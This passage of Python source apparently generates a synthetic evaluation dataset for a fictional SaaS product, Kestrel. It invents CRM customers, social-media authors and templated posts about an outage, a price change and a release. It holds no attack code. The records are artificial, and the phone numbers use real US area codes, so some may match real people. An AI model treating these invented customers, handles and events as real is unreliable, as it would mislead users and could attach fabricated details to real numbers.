    full = p.native if (p.native and rng.random() < 0.6) else p.latin
    r = rng.random()
    pron = "she/her" if p.first in FEMALE else ("he/him" if p.first in MALE else None)
    if r < 0.46:
        return full
    if r < 0.54:
        return f"{p.first} {p.last[0]}."
    if r < 0.58:
        return full.upper()
    if r < 0.65 and pron:
        return f"{p.first} {rng.choice(['🌻', '🌱', '✨', '🐝', '🌊', '☕', '🏔️'])} ({pron})"
    if r < 0.71:
        return f"{full} | {rng.choice(ROLES)}"
    if r < 0.75:
        return f"{p.first} ☕"
    if r < 0.78:
        return f"Dr. {full}"
    if r < 0.85 and p.country in FLAGS:
        return f"{full} {FLAGS[p.country]}"
    if r < 0.90:
        return full.lower()
    if r < 0.94:
        return f"{p.first} 🏳️‍🌈"
    return p.first


def author_url(net: str, handle: str) -> str:
    if net == "mastodon":
        user, _, inst = handle.partition("@")
        return f"https://{inst}/@{user}"
    if net == "bluesky":
        return f"https://bsky.app/profile/{handle}"
    if net == "reddit":
        return f"https://www.reddit.com/user/{handle}/"
    if net == "hackernews":
        return f"https://news.ycombinator.com/user?id={handle}"
    if net == "github":
        return f"https://github.com/{handle}"
    raise ValueError(net)


def followers_for(rng: random.Random, net: str) -> int | None:
    if net in ("hackernews", "rss"):
        return None
    median = {"mastodon": 140, "bluesky": 190, "reddit": 6, "github": 18}[net]
    x = median * math.exp(rng.gauss(0, 1.25))
    if rng.random() < 0.03:
        x *= rng.uniform(8, 40)
    return int(x)


DID_ALPHABET = "abcdefghijklmnopqrstuvwxyz234567"
TID_ALPHABET = "234567abcdefghijklmnopqrstuvwxyz"  # base32-sortable, as used by atproto


def make_did(rng: random.Random) -> str:
    return "did:plc:" + "".join(rng.choice(DID_ALPHABET) for _ in range(24))


def make_tid(micros: int, clock: int) -> str:
    v = (micros << 10) | (clock & 1023)
    out = []
    for _ in range(13):
        out.append(TID_ALPHABET[v & 31])
        v >>= 5
    return "".join(reversed(out))


def to36(n: int) -> str:
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    s = ""
    while n:
        n, r = divmod(n, 36)
        s = digits[r] + s
    return s or "0"


# Named customers the brief asks for: diacritics, CJK, and people with the same or a
# very similar name at different companies.  Handles: net -> handle(s), ";"-separated.
SPECIAL_CUSTOMERS = [
    dict(
        name="Kate Lindqvist",
        first="Kate",
        last="Lindqvist",
        cc="US",
        company="Brightline Studio",
        tier="team",
        display="Kate 🌻 (she/her)",
        handles={
            "mastodon": "kate@fosstodon.org",
            "bluesky": "klindqvist.bsky.social",
            "reddit": "kate_lindqvist",
            "github": "klindqvist;k8s-kate",
            "hackernews": "k8s_kate",
            "x": "kate_lindqvist",
        },
    ),
    dict(
        name="John Smith",
        first="John",
        last="Smith",
        cc="US",
        company="Harborview Logistics",
        tier="enterprise",
        handles={"hackernews": "jsmith_hv", "github": "jsmith-harborview"},
    ),
    dict(
        name="John Smith",
        first="John",
        last="Smith",
        cc="GB",
        company="Pennant Analytics Ltd",
        tier="team",
        handles={"mastodon": "johnsmith@mastodonapp.uk", "bluesky": "johnsmith.bsky.social"},
    ),
    dict(
        name="John Smyth",
        first="John",
        last="Smyth",
        cc="IE",
        company="Smyth & Rowe Architects",
        tier="pro",
        handles={"bluesky": "johnsmyth.bsky.social", "x": "JohnSmythArch"},
    ),
    dict(
        name="Jon Smith",
        first="Jon",
        last="Smith",
        cc="US",
        company=None,
        tier="free",
        email="jonsmith.music@gmail.com",
        handles={"reddit": "jonsmithmusic"},
    ),
    dict(
        name="Zoë Ångström",
        first="Zoë",
        last="Ångström",
        cc="SE",
        company="Ångström Analytics AB",
        tier="enterprise",
        display="Zoë Ångström 🇸🇪",
        handles={"mastodon": "zoe@mastodon.nu", "bluesky": "zoeangstrom.se", "github": "zangstrom"},
    ),
    dict(
        name="José Núñez",
        first="José",
        last="Núñez",
        cc="ES",
        company="Núñez & Asociados",
        tier="team",
        display="JOSÉ NÚÑEZ",
        handles={
            "bluesky": "jnunez.bsky.social",
            "mastodon": "jnunez@mastodon.social",
            "x": "jnunez",
        },
    ),
    dict(
        name="Jose Nunez",
        first="Jose",
        last="Nunez",
        cc="US",
        company="Heron Point Marketing",
        tier="pro",
        handles={"reddit": "Jose_Nunez_ATX"},
    ),
    dict(
        name="Łukasz Wróbel",
        first="Łukasz",
        last="Wróbel",
        cc="PL",
        company="Wróbel Studio",
        tier="pro",
        handles={"mastodon": "lukasz@pol.social", "github": "lwrobel", "hackernews": "lwrobel"},
    ),
    dict(
        name="María García",
        first="María",
        last="García",
        cc="ES",
        company="Olivo Digital",
        tier="team",
        handles={"bluesky": "mariagarcia.bsky.social"},
    ),
    dict(
        name="Maria Garcia",
        first="Maria",
        last="Garcia",
        cc="MX",
        company="Estudio Colibrí",
        tier="pro",
        handles={"mastodon": "mariagarcia@mastodon.social", "reddit": "mgarcia_mx"},
    ),
    dict(
        name="Anna Müller",
        first="Anna",
        last="Müller",
        cc="DE",
        company="Hafenblick Medien GmbH",
        tier="team",
        handles={"mastodon": "annamueller@chaos.social"},
    ),
    dict(
        name="Anna Mueller",
        first="Anna",
        last="Mueller",
        cc="CH",
        company="Zürisee Treuhand AG",
        tier="enterprise",
        handles={},
    ),
    dict(
        name="张伟",
        first="Wei",
        last="Zhang",
        native="张伟",
        cc="CN",
        company="Jade River Trading",
        tier="team",
        email="zhang.wei@jaderiver.cn",
        handles={"github": "zhangwei-dev"},
    ),
    dict(
        name="Wei Zhang",
        first="Wei",
        last="Zhang",
        cc="SG",
        company="Bluefin Payments",
        tier="enterprise",
        handles={"bluesky": "weizhang.bsky.social", "github": "wzhang-sg", "hackernews": "wzhang"},
    ),
    dict(
        name="佐藤 美咲",
        first="Misaki",
        last="Sato",
        native="佐藤 美咲",
        cc="JP",
        company="Sakura Byte Inc.",
        tier="team",
        handles={"mastodon": "misaki@mstdn.jp", "bluesky": "misaki-sato.bsky.social"},
    ),
    dict(
        name="김민준",
        first="Minjun",
        last="Kim",
        native="김민준",
        cc="KR",
        company="Hangang Labs",
        tier="pro",
        handles={"github": "minjun-kim"},
    ),
    dict(
        name="נועה כהן",
        first="Noa",
        last="Cohen",
        native="נועה כהן",
        cc="IL",
        company="Yafo Security",
        tier="enterprise",
        handles={"bluesky": "noacohen.bsky.social"},
    ),
    dict(
        name="Siobhán Ní Bhriain",
        first="Siobhán",
        last="Ní Bhriain",
        cc="IE",
        company="Shamrock Telecom",
        tier="team",
        handles={"mastodon": "siobhan@mastodon.ie"},
    ),
    dict(
        name="Ana Souza",
        first="Ana",
        last="Souza",
        cc="BR",
        company="Bem-te-vi Tecnologia",
        tier="team",
        display="Ana Souza 🇧🇷",
        handles={
            "mastodon": "anasouza@masto.donte.com.br;ana@hachyderm.io",
            "bluesky": "anasouza.dev",
        },
    ),
    dict(
        name="Priya Sharma",
        first="Priya",
        last="Sharma",
        cc="IN",
        company="Monsoon Systems",
        tier="enterprise",
        handles={"bluesky": "priyasharma.bsky.social", "github": "priya-sharma"},
    ),
    dict(
        name="Priya Sharma",
        first="Priya",
        last="Sharma",
        cc="GB",
        company="Foxglove Publishing",
        tier="pro",
        handles={"mastodon": "priya@hachyderm.io"},
    ),
    dict(
        name="Björn Þórsson",
        first="Björn",
        last="Þórsson",
        cc="IS",
        company="Geysir Data",
        tier="team",
        handles={"mastodon": "bjorn@mastodon.social"},
    ),
    dict(
        name="Nguyễn Thị Lan",
        first="Lan",
        last="Nguyen",
        cc="VN",
        company="Lotus Commerce",
        tier="free",
        handles={"bluesky": "lannguyen.bsky.social"},
    ),
    dict(
        name="Marcus Hale",
        first="Marcus",
        last="Hale",
        cc="US",
        company="Tidewater Robotics",
        tier="enterprise",
        handles={"reddit": "marcus_hale;throwaway_pm_4417", "hackernews": "mhale"},
    ),
    dict(
        name="Olena Kovalenko",
        first="Olena",
        last="Kovalenko",
        native="Олена Коваленко",
        cc="UA",
        company="Dnipro Dev",
        tier="team",
        handles={"github": "okovalenko", "mastodon": "olena@mastodon.social"},
    ),
]


@dataclass
class Customer:
    record: dict
    person: Person
    handles: dict  # net -> list of handles
    display: str | None
    activity: float
    links: dict = field(default_factory=dict)  # handle -> its profile links (add_profile_links)


def phone_for(rng: random.Random, cc: str) -> str:
    tpl = COUNTRIES[cc][2]
    if cc == "US":  # real area codes; 555-01xx is the range reserved for fiction
        tpl = tpl.replace(
            "(###)", f"({rng.choice([212, 415, 312, 617, 206, 512, 303, 404, 646, 720])})"
        )
    return "".join(str(rng.randint(0, 9)) if ch == "#" else ch for ch in tpl)


def email_for(rng: random.Random, p: Person, domain: str | None, taken: set) -> str:
    f, last = slugify(p.first, "") or "user", slugify(p.last, "") or "x"
    if domain:
        locals_ = [
            f"{f}.{last}",
            f"{f}.{last}",
            f"{f[0]}{last}",
            f"{f}",
            f"{f}.{last[0]}",
            f"{f}{last}",
        ]
    else:
        locals_ = [
            f"{f}.{last}",
            f"{f}{last}{rng.randint(1, 99)}",
            f"{f}.{last}.{rng.randint(70, 99)}",
            f"{f[0]}{last}",
            f"{f}_{last}",
        ]
        mails = PERSONAL_MAIL.get(p.lang, PERSONAL_MAIL["default"])
        domain = rng.choice(mails)
    for local in locals_ * 3:
        addr = f"{local}@{domain}"
        if addr not in taken:
            taken.add(addr)
            return addr
        locals_ = [f"{f}.{last}{rng.randint(2, 9)}"]
    addr = f"{f}.{last}.{rng.randint(100, 999)}@{domain}"
    taken.add(addr)
    return addr


def lifetime_value(rng: random.Random, tier: str) -> float | int:
    if tier == "free":
        return 0
    if tier == "pro":
        return rng.choice([96, 96, 96, 86.4, 192, 120])
    if tier == "team":
        seats = max(3, round(9 * math.exp(rng.gauss(0, 0.8))))
        v = round(seats * 14 * 12 * rng.choice([1, 1, 1, 0.9, 0.85]), 2)
        return int(v) if v == int(v) else v
    seats = max(60, round(260 * math.exp(rng.gauss(0, 0.7))))
    return int(round(seats * rng.uniform(13.5, 19.0) * 12, -2))


def build_customers(rng: random.Random, reg: HandleRegistry, target: int = 340) -> list[Customer]:
    companies = []
    for line in COMPANIES_RAW.strip().splitlines():
        name, domain, cc = line.split("|")
        companies.append({"name": name, "domain": domain, "cc": cc})
    special_companies = {s["company"] for s in SPECIAL_CUSTOMERS if s.get("company")}
    # Tier is a property of the company's workspace, so colleagues share it.
    for c in companies:
        c["tier"] = rng.choices(["enterprise", "team", "pro", "free"], [14, 40, 30, 16])[0]
        c["ltv"] = lifetime_value(rng, c["tier"])
    by_name = {c["name"]: c for c in companies}
    for s in SPECIAL_CUSTOMERS:
        if s.get("company"):
            c = by_name[s["company"]]
            if c["tier"] != s["tier"]:
                c["tier"], c["ltv"] = s["tier"], lifetime_value(rng, s["tier"])

    emails: set = set()
    out: list[Customer] = []

    def finish(
        p: Person,
        company: dict | None,
        tier: str,
        handles: dict,
        display: str | None,
        name: str | None = None,
        email: str | None = None,
    ) -> None:
        rec = {
            "id": "",
            "name": name or (p.native if (p.native and rng.random() < 0.5) else p.latin),
            "email": email
            or email_for(
                rng, p, company["domain"] if company and rng.random() < 0.9 else None, emails
            ),
            "company": company["name"] if company else "",
            "phone": phone_for(rng, (company or {}).get("cc", p.country))
            if rng.random() < 0.78
            else "",
            "tier": tier,
            "lifetime_value": company["ltv"]
            if company and tier in ("team", "enterprise")
            else lifetime_value(rng, tier),
            "notes": " ".join(rng.sample(CRM_NOTES, rng.choice([0, 1, 1, 1, 2]))),
        }
        for net in ["mastodon", "bluesky", "hackernews", "reddit", "github", "x"]:
            rec[net] = ";".join(handles.get(net, []))
        cc = (company or {}).get("cc", p.country)
        rec["region"] = COUNTRIES[cc][0]
        if tier == "free":
            rec["renewal_date"] = ""
        else:
            rec["renewal_date"] = (
                REFERENCE_TIME.date() + timedelta(days=rng.randint(-25, 365))
            ).isoformat()
        out.append(Customer(rec, p, handles, display, math.exp(rng.gauss(0, 0.9))))

    for s in SPECIAL_CUSTOMERS:
        p = Person(
            s["first"], s["last"], s.get("native"), s["cc"], COUNTRIES[s["cc"]][1], "special"
        )
        if s.get("native") and s["cc"] in ("JP", "CN", "KR", "IL"):
            p.lang = {"JP": "ja", "CN": "zh", "KR": "ko", "IL": "he"}[s["cc"]]
        handles = {}
        for net, hs in s["handles"].items():
            handles[net] = [h for h in hs.split(";")]
            for h in handles[net]:
                reg.reserve(net, h)
        company = by_name.get(s.get("company") or "")
        finish(
            p, company, s["tier"], handles, s.get("display"), name=s["name"], email=s.get("email")
        )

    # Colleagues at the companies, then individuals on personal e-mail addresses.
    queue: list[tuple[dict | None, str]] = []
    for c in companies:
        n = {
            "enterprise": rng.randint(2, 5),
            "team": rng.randint(1, 3),
            "pro": 1,
            "free": rng.choice([1, 1, 2]),
        }[c["tier"]]
        if c["name"] in special_companies:
            n = max(0, n - 1)
        queue += [(c, c["tier"])] * n
    while len(out) + len(queue) < target:
        queue.append((None, rng.choices(["free", "pro"], [60, 40])[0]))
    rng.shuffle(queue)
    cc_cultures: dict[str, list[str]] = {}
    for cul, spec in list(CULTURES.items()) + list(PAIR_CULTURES.items()):
        for cc in spec["cc"].split():
            cc_cultures.setdefault(cc, []).append(cul)
    for company, tier in queue[: target - len(out)]:
        if company and rng.random() < 0.8 and company["cc"] in cc_cultures:
            p = make_person(rng, rng.choice(cc_cultures[company["cc"]]), None)
            if company["cc"] in [
                x
                for x in CULTURES.get(p.culture, PAIR_CULTURES.get(p.culture, {}))
                .get("cc", "")
                .split()
            ]:
                p.country = company["cc"]
        else:
            p = make_person(rng)
        # ~60% of customers have at least one social handle.
        handles: dict = {}
        if rng.random() < 0.53:
            base = base_handle(rng, p)
            nets = [
                n
                for n, w in [
                    ("mastodon", 0.45),
                    ("bluesky", 0.55),
                    ("github", 0.35),
                    ("reddit", 0.3),
                    ("hackernews", 0.16),
                    ("x", 0.35),
                ]
                if rng.random() < w
            ]
            if not nets:
                nets = [rng.choice(["mastodon", "bluesky", "github"])]
            for net in nets:
                h = net_handle(rng, net, p, base if rng.random() < 0.7 else None)
                handles[net] = [reg.claim(net, h, rng)]
                # A few people keep two accounts on one network (moved instance, alt, work).
                if net in ("mastodon", "reddit", "github") and rng.random() < 0.025:
                    handles[net].append(reg.claim(net, net_handle(rng, net, p), rng))
        finish(p, company, tier, handles, None)

    rng.shuffle(out)
    for i, c in enumerate(out, 1):
        c.record["id"] = f"C-{i:04d}"
    return out


# --------------------------------------------------------------------------------------
# Rendering and light variation
# --------------------------------------------------------------------------------------

FEATURES = [
    "the Kanban board",
    "recurring tasks",
    "calendar sync",
    "offline mode",
    "keyboard shortcuts",
    "the Slack integration",
    "the GitHub integration",
    "webhooks",
    "dark mode",
    "CSV import",
    "the timeline view",
    "real-time sync",
]
PHONES = [
    "Pixel 7",
    "Pixel 8a",
    "Pixel 6",
    "Galaxy S23",
    "Galaxy A54",
    "Galaxy A15",
    "OnePlus 12",
    "Xiaomi 13T",
    "Moto G84",
    "Fairphone 5",
    "Nothing Phone (2)",
    "Galaxy S21 FE",
]
IPHONES = ["iPhone 13 mini", "iPhone 15", "iPhone 16 Pro", "iPhone SE", "iPad Air", "iPhone 14"]
OSES = [
    "macOS 15.1",
    "macOS 14.7",
    "Windows 11 23H2",
    "Windows 11 24H2",
    "Windows 10",
    "Ubuntu 24.04",
    "Fedora 41",
    "Debian 12",
    "Arch Linux",
]
PLATFORMS = ["Android", "iOS", "macOS", "Windows", "Linux", "the web app"]
COMPETITORS = ["Trello", "Asana", "Linear", "Notion", "Jira", "ClickUp", "Todoist", "Monday"]
CALENDARS = [
    "Google Calendar",
    "Outlook",
    "Outlook",
    "Google Calendar",
    "Fastmail (CalDAV)",
    "Nextcloud (CalDAV)",
    "iCloud Calendar",
]
EU_CITIES = [
    "Berlin",
    "Amsterdam",
    "Lyon",
    "Kraków",
    "Utrecht",
    "Milan",
    "Lisbon",
    "Dublin",
    "Helsinki",
    "Vienna",
    "Barcelona",
    "Hamburg",
    "Copenhagen",
    "Stockholm",
    "Ghent",
    "Munich",
    "Paris",
    "Madrid",
    "Warsaw",
    "Zurich",
]
DOCS = [
    "https://kestrel.app/docs/calendar-sync",
    "https://kestrel.app/docs/recurring-tasks",
    "https://kestrel.app/docs/api/webhooks",
    "https://kestrel.app/docs/api/rate-limits",
    "https://kestrel.app/docs/offline-mode",
    "https://kestrel.app/docs/import/trello",
    "https://kestrel.app/docs/sso/saml",
    "https://kestrel.app/docs/keyboard-shortcuts",
    "https://kestrel.app/docs/guests",
    "https://kestrel.app/docs/troubleshooting/android",
]
DOC_KEYS = [
    (r"calendar|caldav|outlook", DOCS[0]),
    (r"recurr|repeat", DOCS[1]),
    (r"webhook", DOCS[2]),
    (r"rate limit|429", DOCS[3]),
    (r"offline", DOCS[4]),
    (r"import|trello|csv", DOCS[5]),
    (r"sso|saml|entra|okta", DOCS[6]),
    (r"shortcut|keyboard", DOCS[7]),
    (r"guest", DOCS[8]),
    (r"android", DOCS[9]),
]
STATUS_URL = "https://status.kestrel.app/incidents/q8v3m1x7d2kp"
RELEASE_BLOG = "https://kestrel.app/blog/kestrel-4-2"
POSTMORTEM_BLOG = "https://kestrel.app/blog/postmortem-2026-11-16"

EMOJI = {
    "negative": ["😩", "🙃", "😤", "🫠", "😑", "🤦", "😮‍💨"],
    "positive": ["🎉", "❤️", "🙌", "✨", "💯", "😍", "🥹"],
    "neutral": ["🤔", "👀", "🙏", "🧐"],
}
PREFIX = {
    "negative": ["ugh. ", "ok so ", "not to complain but ", "honestly, ", "PSA: ", "day {n}: "],
    "positive": ["ok ", "honestly ", "small joy: ", "appreciation post: ", "ngl "],
    "neutral": ["quick q: ", "honest question: ", "ok so ", "random thought: "],
}
CW = ["CW: rant", "CW: kestrel rant", "CW: mild complaining", "CW: work vent", "CW: software moan"]
EMOJI_RX = re.compile("[\U0001f300-\U0001faff\u2600-\u27bf]")


def version_at(t: datetime, rng: random.Random) -> str:
    if t < RELEASE_AT:
        return rng.choice(["4.1.4", "4.1.4", "4.1.3"])
    if t < V421_AT:
        return "4.2.0"
    if t < V422_AT:
        return "4.2.1"
    return "4.2.2"


def prev_version(v: str) -> str:
    return {
        "4.1.3": "4.1.2",
        "4.1.4": "4.1.3",
        "4.2.0": "4.1.4",
        "4.2.1": "4.2.0",
        "4.2.2": "4.2.1",
    }[v]


class Renderer:
    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.issue_numbers: list[int] = []  # filled as issues are created

    def render(
        self, tpl: str, channel: str, t: datetime, topic: str, context: str | None = None
    ) -> str:
        rng = self.rng
        local: dict = {}
        ctx = (context or "").lower()

        def fill(m: re.Match) -> str:
            k = m.group(1)
            if k == "brand":
                return {"mastodon": "@kestrel@fosstodon.org", "bluesky": "@kestrel.app"}.get(
                    channel, "Kestrel"
                )
            if k == "ver":
                local["ver"] = local.get("ver") or version_at(t, rng)
                return local["ver"]
            if k == "prev":
                return prev_version(local.get("ver") or version_at(t, rng))
            if k == "feature":
                return rng.choice(FEATURES)
            if k == "phone":
                return rng.choice(PHONES)
            if k == "iphone":
                return rng.choice(IPHONES)
            if k == "os":
                return rng.choice(OSES)
            if k == "platform":
                return rng.choice(PLATFORMS)
            if k == "comp":
                return rng.choice(COMPETITORS)
            if k == "cal":
                return rng.choice(CALENDARS)
            if k == "city":
                return rng.choice(EU_CITIES)
            if k == "n":
                return str(rng.randint(3, 9))
            if k == "nn":
                return str(rng.choice([12, 14, 15, 18, 20, 22, 25, 30, 35, 40, 45, 60]))
            if k == "big":
                local["big"] = rng.choice([1200, 1800, 2400, 3100, 3800, 4200, 5400, 6700, 8000])
                return f"{local['big']:,}"
            if k == "big2":
                return f"{int(round(local.get('big', 2400) * 1.28, -1)):,}"
            if k == "mins":
                if OUTAGE_START <= t <= OUTAGE_END + timedelta(minutes=30):
                    return str(max(10, int((t - OUTAGE_START).total_seconds() // 60 // 5 * 5)))
                return str(rng.choice([20, 25, 30, 40, 45, 50]))
            if k == "hours":
                if t >= OUTAGE_START:
                    return str(max(1, min(4, math.ceil((t - OUTAGE_START).total_seconds() / 3600))))
                return "2"
            if k == "docs":
                for rx, url in DOC_KEYS:
                    if re.search(rx, ctx):
                        return url
                return rng.choice(DOCS)
            if k == "status":
                return STATUS_URL
            if k == "blog":
                return POSTMORTEM_BLOG if topic.startswith("after") else RELEASE_BLOG
            if k == "issue":
                num = rng.choice(self.issue_numbers or [2411, 2519, 2733])
                return f"https://github.com/kestrel-hq/kestrel/issues/{num}"
            if k == "dupe":
                return str(rng.choice(self.issue_numbers or [2519, 2733]))
            return m.group(0)

        return re.sub(r"\{(\w+)\}", fill, tpl)


TAGS_BY_FAMILY = {
    "outage": ["#kestrel", "#outage", "#Kestrel", "#MondayMood"],
    "price": ["#kestrel", "#SaaS", "#pricing", "#Kestrel"],
    "release": ["#kestrel", "#productivity", "#ProjectManagement", "#gantt"],
    "default": ["#kestrel", "#productivity", "#ProjectManagement", "#Kestrel", "#RemoteWork"],
}


def hashtags(rng: random.Random, text: str, topic: str) -> str:
    fam = (
        "outage"
        if topic.startswith(("outage", "after"))
        else "price"
        if topic.startswith("price")
        else "release"
        if topic.startswith("release")
        else "default"
    )
    pool = list(TAGS_BY_FAMILY[fam])
    for word, tag in (
        ("Android", "#android"),
        ("ADHD", "#ADHD"),
        ("Linux", "#linux"),
        ("API", "#API"),
    ):
        if word in text:
            pool.append(tag)
    tags = rng.sample(pool, min(len(pool), rng.choice([1, 1, 2, 2, 3])))
    if "#kestrel" not in [x.lower() for x in tags] and rng.random() < 0.5:
        tags.insert(0, "#kestrel")
    return " ".join(dict.fromkeys(tags))


def vary(
    text: str,
    rng: random.Random,
    channel: str,
    sentiment: str,
    lang: str,
    force: bool,
    topic: str = "",
    reply: bool = False,
) -> str:
    """Light, human-looking edits: case, punctuation, emoji, hashtags, CW lines."""
    if channel in ("mastodon", "bluesky"):
        if lang == "en":
            if (
                rng.random() < (0.45 if force else 0.1)
                and text[:1].isupper()
                and text[1:2].islower()
            ):
                text = text[0].lower() + text[1:]
            if rng.random() < 0.3 and text.endswith(".") and not text.endswith(".."):
                text = text[:-1]
            if rng.random() < (0.35 if force else 0.05):
                pre = rng.choice(PREFIX[sentiment]).replace("{n}", str(rng.randint(2, 6)))
                if text[:1].isupper() and text[1:2].islower():
                    text = text[0].lower() + text[1:]
                text = pre + text
        if rng.random() < (0.5 if force else 0.1) and not EMOJI_RX.search(text[-3:]):
            text += " " + rng.choice(EMOJI[sentiment])
        if reply:
            pass  # replies rarely carry hashtags or content warnings
        elif channel == "mastodon":
            if rng.random() < (0.6 if force else 0.3) and "#" not in text:
                text += ("\n\n" if rng.random() < 0.6 else " ") + hashtags(rng, text, topic)
            if sentiment == "negative" and rng.random() < 0.1 and not text.startswith("CW"):
                text = rng.choice(CW) + "\n\n" + text
        elif rng.random() < (0.25 if force else 0.06) and "#" not in text:
            text += " " + rng.choice(["#kestrel", "#productivity", "#Kestrel"])
    elif force:
        if channel == "hackernews":
            text = (
                rng.choice(["FWIW, ", "For what it's worth: ", "Anecdotally, ", "Data point: "])
                + text[0].lower()
                + text[1:]
            )
        elif channel == "reddit":
            text += rng.choice(
                [
                    "\n\nEdit: typo",
                    "\n\nEdit: thanks for the replies, everyone",
                    f" (on {rng.choice(PHONES + OSES)})",
                ]
            )
        elif channel == "github":
            text += rng.choice(
                [f"\n\n(on {rng.choice(OSES)})", "\n\nSame on my second machine.", " 👍"]
            )
        else:
            text += " " + rng.choice(["(updated)", "[via newsletter]"])
    return text


# --------------------------------------------------------------------------------------
# Authors
# --------------------------------------------------------------------------------------

INFLUENCERS = [
    ("mastodon", "ines@hachyderm.io", "Inês Carvalho", 86_400),
    ("mastodon", "tobi@chaos.social", "Tobias Reimann", 131_200),
    ("bluesky", "asyncengineer.com", "The Async Engineer", 212_000),
    ("bluesky", "danawhitfield.bsky.social", "Dana Whitfield 📋", 54_300),
    ("bluesky", "hankorwell.com", "Hank Orwell", 392_000),
    ("github", "ydemir", "Yusuf Demir", 12_400),
]
STAFF_GITHUB = [
    ("mhalvorsen", "Mira Halvorsen", 640),
    ("tpavlov", "Teodor Pavlov", 212),
    ("sinead-k", "Sinéad Kavanagh", 98),
    ("aoki-ren", "Ren Aoki", 371),
]
RSS_FEEDS = [
    # name, domain, lang, style
    ("The Async Engineer", "asyncengineer.substack.com", "en", "substack"),
    ("Klara Dahl", "klaradahl.com", "en", "blog"),
    ("Remote Ops Notes", "notes.remoteops.dev", "en", "blog"),
    ("SaaS Pricing Teardown", "pricingteardown.com", "en", "wp"),
    ("Planner Planet", "www.plannerplanet.io", "en", "wp"),
    ("Maker's Schedule Weekly", "makersschedule.news", "en", "blog"),
    ("Ben Okafor", "benokafor.dev", "en", "blog"),
    ("The Product Margin", "theproductmargin.com", "en", "wp"),
    ("Tool Stack Reviews", "toolstack.review", "en", "wp"),
    ("SaaS Digest", "saasdigest.email", "en", "blog"),
    ("Digitale Werkbank", "digitalewerkbank.de", "de", "wp"),
    ("Le Journal du Freelance", "journaldufreelance.fr", "fr", "wp"),
    ("tkmr", "zenn.dev/tkmr", "ja", "zenn"),
    ("hnakamura", "qiita.com/hnakamura", "ja", "qiita"),
    ("Productividad Práctica", "productividadpractica.es", "es", "blog"),
    ("Blog do Caio", "caiocardoso.com.br", "pt", "wp"),
    ("Planmatig", "planmatig.nl", "nl", "blog"),
    ("Ebbas anteckningar", "ebba.se", "sv", "blog"),
    ("Produttività Digitale", "produttivitadigitale.it", "it", "wp"),
    ("Zwinny Zespół", "zwinnyzespol.pl", "pl", "blog"),
]
ALERT_FEED = ("Google Alerts - Kestrel", "www.google.com/alerts", "en", "alerts")
NEWS_SITES = [
    "saasweekly.news",
    "productivitytoday.co",
    "nordictechjournal.com",
    "thebusinessbrief.net",
    "startupdigest.eu",
    "appadvice-weekly.com",
    "edtechreport.org",
    "remoteworkdaily.com",
]
LANG_CULTURE = {
    "de": "german",
    "fr": "french",
    "es": "spanish",
    "pt": "portuguese",
    "it": "italian",
    "nl": "dutch",
    "sv": "nordic",
    "pl": "polish",
    "ja": "japanese",
    "zh": "chinese",
    "ar": "arabic",
    "he": "hebrew",
}
POOL_SIZE = {"mastodon": 150, "bluesky": 150, "reddit": 120, "hackernews": 95, "github": 80}
NETS = ["mastodon", "bluesky", "reddit", "hackernews", "github"]


class World:
    def __init__(self, rng: random.Random, customers: list[Customer], reg: HandleRegistry) -> None:
        self.rng = rng
        self.reg = reg
        self.customers = customers
        self.cust_authors: dict[str, list[Author]] = {n: [] for n in NETS}
        for c in customers:
            for net in NETS:
                for i, h in enumerate(c.handles.get(net, [])):
                    self.cust_authors[net].append(self._customer_author(net, h, c, i))
        self.pools: dict[tuple, list[Author]] = {}
        for net in NETS:
            self.pools[(net, "en")] = [self._stranger(net, "en") for _ in range(POOL_SIZE[net])]
            if net in ("mastodon", "bluesky", "reddit"):
                for lang in LANG_WEIGHTS:
                    size = {"mastodon": 7, "bluesky": 6, "reddit": 3}[net]
                    self.pools[(net, lang)] = [self._stranger(net, lang) for _ in range(size)]
        for net, handle, name, fol in INFLUENCERS:
            self.reg.reserve(net, handle)
            a = Author(
                net,
                handle,
                name,
                fol,
                author_url(net, handle),
                "en",
                weight=2.5,
                did=make_did(rng) if net == "bluesky" else None,
            )
            self.pools[(net, "en")].append(a)
        self.brand = {
            "mastodon": Author(
                "mastodon",
                "kestrel@fosstodon.org",
                "Kestrel",
                18_437,
                "https://fosstodon.org/@kestrel",
                brand=True,
            ),
            "bluesky": Author(
                "bluesky",
                "kestrel.app",
                "Kestrel",
                26_912,
                "https://bsky.app/profile/kestrel.app",
                did=make_did(rng),
                brand=True,
            ),
            "reddit": Author(
                "reddit",
                "kestrelapp",
                None,
                1_204,
                "https://www.reddit.com/user/kestrelapp/",
                brand=True,
            ),
        }
        self.staff_gh = [
            Author("github", h, n, f, author_url("github", h), staff=True)
            for h, n, f in STAFF_GITHUB
        ]
        self.staff_hn = Author(
            "hackernews",
            "mhalvorsen",
            None,
            None,
            author_url("hackernews", "mhalvorsen"),
            staff=True,
        )
        self.feeds: dict[str, list[Author]] = {}
        self.feed_meta: dict[str, tuple] = {}
        for name, domain, lang, style in [*RSS_FEEDS, ALERT_FEED]:
            a = Author("rss", name, name, None, f"https://{domain}/", lang)
            self.feeds.setdefault(lang, []).append(a)
            self.feed_meta[name] = (domain, style)
        self.alert_author = self.feeds["en"][-1]
        self.extra: dict[tuple, Author] = {}

    def _customer_author(self, net: str, handle: str, c: Customer, idx: int) -> Author:
        rng = self.rng
        p = c.person
        if net in ("mastodon", "bluesky"):
            name = c.display if (c.display and idx == 0) else display_name(rng, p)
        elif net == "github":
            name = p.latin if rng.random() < 0.75 else None
        else:
            name = None
        return Author(
            net,
            handle,
            name,
            followers_for(rng, net),
            author_url(net, handle),
            p.lang,
            customer=c.record["id"],
            did=make_did(rng) if net == "bluesky" else None,
            weight=c.activity * (1.0 if idx == 0 else 0.35),
            links=c.links.get(handle),
        )

    def _stranger(self, net: str, lang: str) -> Author:
        rng = self.rng
        if lang == "en":
            p = make_person(rng)
        else:
            p = make_person(rng, LANG_CULTURE[lang])
            if lang == "sv":
                p.country = "SE"
            p.lang = lang
        name = display_name(rng, p)
        handle = None
        if net in ("mastodon", "bluesky", "hackernews") and lang == "en" and rng.random() < 0.08:
            name, base = rng.choice(PSEUDONYMS)
            handle = net_handle(rng, net, p, base)
        handle = self.reg.claim(net, handle or net_handle(rng, net, p), rng)
        if net in ("reddit", "hackernews") or (net == "github" and rng.random() < 0.3):
            name = None
        return Author(
            net,
            handle,
            name,
            followers_for(rng, net),
            author_url(net, handle),
            lang,
            did=make_did(rng) if net == "bluesky" else None,
            weight=math.exp(rng.gauss(0, 1.0)),
        )

    def special(self, net: str, handle: str, name: str | None) -> Author:
        """Authors of hostile posts with crafted handles or names."""
        key = (net, handle)
